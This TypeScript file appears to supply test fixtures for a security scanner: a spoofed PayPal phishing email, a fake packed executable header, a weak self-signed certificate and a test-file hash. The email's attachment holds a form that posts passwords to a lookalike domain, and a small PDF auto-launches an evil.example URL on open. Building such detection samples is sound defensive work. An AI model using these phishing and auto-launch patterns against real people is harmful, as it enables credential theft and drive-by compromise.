/** Small samples of the types that have their own form; all names and addresses are made up. */

export const mail = [
  'Received: from mx.bank.test (mx.bank.test [203.0.113.66]) by relay.isp.example with SMTP; Mon, 16 Nov 2026 07:12:41 +0000',
  'Authentication-Results: mail.example.com; spf=fail smtp.mailfrom=mailer.test; dkim=none; dmarc=fail header.from=paypal.com',
  'From: "PayPal Security" <security@paypal.com>',
  'Reply-To: help@paypa1-login.test',
  'To: ada@example.com, ben@example.com',
  'Subject: Your account is locked',
  'Date: Mon, 16 Nov 2026 07:12:40 +0000',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="piece"',
  '',
  '--piece',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>Confirm your account <img src="https://paypa1-login.test/pixel.png">:</p>',
  '<p><a href="https://paypa1-login.test/verify">https://www.paypal.com/signin</a></p>',
  '',
  '--piece',
  'Content-Type: text/html; name="statement.pdf.html"',
  'Content-Disposition: attachment; filename="statement.pdf.html"',
  '',
  '<form action="https://paypa1-login.test/collect"><input type="password"></form>',
  '--piece--',
  '',
].join('\r\n')

export const attachmentName = 'statement.pdf.html'

/** One section that can be written and executed, named as a packer does. */
export function program(): Buffer {
  const content = Buffer.from(Array.from({ length: 8192 }, (_, at) => (at * 167) & 255))
  const header = Buffer.alloc(1024)
  header.write('MZ')
  header.writeUInt32LE(64, 60)
  header.write('PE\0\0', 64)
  header.writeUInt16LE(0x14c, 68)
  header.writeUInt16LE(1, 70)
  header.writeUInt32LE(1_700_000_000, 72)
  header.writeUInt16LE(224, 84)
  header.writeUInt16LE(0x102, 86)
  const optional = 88
  header.writeUInt16LE(0x10b, optional)
  header.writeUInt32LE(0x1000, optional + 16)
  header.writeUInt32LE(1024, optional + 60)
  header.writeUInt16LE(3, optional + 68)
  header.writeUInt32LE(16, optional + 92)
  const section = optional + 224
  header.write('UPX1', section)
  header.writeUInt32LE(content.length, section + 8)
  header.writeUInt32LE(0x1000, section + 12)
  header.writeUInt32LE(content.length, section + 16)
  header.writeUInt32LE(1024, section + 20)
  header.writeUInt32LE(0xe0000000, section + 36)
  return Buffer.concat([header, content])
}

export const document = [
  '%PDF-1.4',
  '1 0 obj',
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>',
  'endobj',
  '2 0 obj',
  '<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
  'endobj',
  '3 0 obj',
  '<< /S /JavaScript /JS (app.launchURL\\("https://evil.example/x"\\)) >>',
  'endobj',
  '4 0 obj',
  '<< /Type /Page /Parent 2 0 R >>',
  'endobj',
  'trailer << /Root 1 0 R >>',
  '%%EOF',
  '',
].join('\n')

/** Self-signed, with a key that is too short; its private key is not kept. */
export const certificate = `-----BEGIN CERTIFICATE-----
MIICVzCCAcCgAwIBAgIUVi8FDMDw6dF/iMeN5P/zYwWp+gEwDQYJKoZIhvcNAQEL
BQAwLjEbMBkGA1UEAwwSbG9naW4uYmFuay5leGFtcGxlMQ8wDQYDVQQKDAZOb2Jv
ZHkwHhcNMjYxMTE3MDcxMDU5WhcNMzYxMTE0MDcxMDU5WjAuMRswGQYDVQQDDBJs
b2dpbi5iYW5rLmV4YW1wbGUxDzANBgNVBAoMBk5vYm9keTCBnzANBgkqhkiG9w0B
AQEFAAOBjQAwgYkCgYEA71zAWwa0nFvc9v1EA7d9ZE6pHn/igskMJMuGxCSEnZYb
MfhKj8ivXEdCwP03oboKVZdEg+GPSpxFPavJugPDZhmzS9KPYT+l3S426MVzhM+H
uP6dDJUOKTdcS2aiCL1JIARGPQ4BwX8MtFsiPldT/rUbsGEeXwpyOWS6ekVI/o0C
AwEAAaNyMHAwHQYDVR0OBBYEFAmqJ34solWOfKlGggh9UM8HWEz5MB8GA1UdIwQY
MBaAFAmqJ34solWOfKlGggh9UM8HWEz5MA8GA1UdEwEB/wQFMAMBAf8wHQYDVR0R
BBYwFIISbG9naW4uYmFuay5leGFtcGxlMA0GCSqGSIb3DQEBCwUAA4GBAFJ7OwN/
CkWhJUpIUiEscSZv+46+JZizNLYVjB1nZheN9C97rguflY4bqKvMuQ2JuXgThHU2
S8tDnrFZapAWlwQprOnWlsngXfu1GNQ9sHLfN3ENO/UezFUE/q+VFmTJxAS1+xjD
p6XdQEyRdMZQWiUxT0zTn9vjgepMHadrdDtU
-----END CERTIFICATE-----
`

/** MD5 of the test file that every virus scanner reports. */
export const knownHash = '44d88612fea8a8f36de82e1278abb02f'
